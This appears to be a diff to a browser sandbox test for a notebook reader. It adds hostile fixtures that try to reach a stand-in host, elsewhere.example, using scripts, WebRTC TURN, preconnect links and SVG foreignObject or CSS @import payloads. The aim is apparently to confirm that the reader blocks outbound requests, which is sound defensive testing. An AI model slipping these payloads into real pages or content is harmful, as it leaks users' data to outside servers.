@@ -6,7 +6,7 @@ import { programPath } from "../cli/programPath.js";
 import { bookOf } from "./builtBook.js";
 import { type CountingServer, countingServer } from "./countingServer.js";
 import { openFirefox } from "./firefox.js";
-import { attacks, markdownAttacks, svgAttacks } from "./hostile.js";
+import { attacks, hostileExplorable, markdownAttacks, svgAttacks } from "./hostile.js";
 import { hiddenImports, hostileCells, textTimers } from "./hostileCells.js";
 import { openReader, serveFolder, type Visit } from "./reader.js";
 
@@ -54,7 +54,7 @@ function shown({ address }: CountingServer): Record<string, Notebook> {
   return {
     [outputs]: notebook([
       ...markdownAttacks.map((text, i) => markdown(`text-${i}`, here(text))),
-      ...[...attacks, ...scripts].map(output("text/html")),
+      ...hostileHtml.map(output("text/html")),
       ...svgAttacks.map(output("image/svg+xml")),
       ...attacks.map(output("text/markdown")),
     ]),
@@ -67,7 +67,7 @@ const scripts = [
   `fetch("https://elsewhere.example/a")`,
   `new Image().src = "https://elsewhere.example/a"`,
   `navigator.sendBeacon("https://elsewhere.example/a")`,
-  `new WebSocket("wss://elsewhere.example/a")`,
+  `new WebSocket("https://elsewhere.example/a".replace("http", "ws"))`,
   `import("https://elsewhere.example/a")`,
   `location = "https://elsewhere.example/a"`,
   `parent.location = "https://elsewhere.example/a"`,
@@ -77,7 +77,32 @@ const scripts = [
   `document.body.innerHTML = '<form action="https://elsewhere.example/a"></form>'; document.forms[0].submit()`,
   `document.body.innerHTML = '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/a">'`,
   `document.body.innerHTML = '<a href="https://elsewhere.example/a">a</a>'; document.links[0].click()`,
-].map((text) => `<script>${text}</script>`);
+  `document.body.innerHTML = '<link rel="preconnect" href="https://elsewhere.example/a">'`,
+  `const c = new RTCPeerConnection({ iceServers: [{ urls: "turn:" + "https://elsewhere.example/".slice(7, -1) + "?transport=tcp", username: "a", credential: "b" }] }); c.createDataChannel("a"); c.setLocalDescription()`,
+];
+
+/** What the view of an explorable may return as its picture. */
+const pictures = [
+  ...svgAttacks,
+  `<svg xmlns="http://www.w3.org/2000/svg"><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="https://elsewhere.example/"/></svg>`,
+  `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://elsewhere.example/"/></body></foreignObject></svg>`,
+  `<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://elsewhere.example/";</style></svg>`,
+  `<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="https://elsewhere.example/"/></body></html>`,
+];
+const explorables = [
+  ...attacks.map((text) =>
+    hostileExplorable(text, `() => (${JSON.stringify({ svg: text, alt: text, text })})`),
+  ),
+  ...scripts.map((text) => hostileExplorable("a", `(() => { ${text} })`)),
+  ...pictures.map((svg) =>
+    hostileExplorable("a", `() => (${JSON.stringify({ svg, alt: "a", text: "a" })})`),
+  ),
+];
+const hostileHtml = [
+  ...attacks,
+  ...scripts.map((text) => `<script>${text}</script>`),
+  ...explorables,
+];
 
 const patience = { timeout: 150_000, interval: 500 };
 /** The states of the cells that have not yet run to their end. */
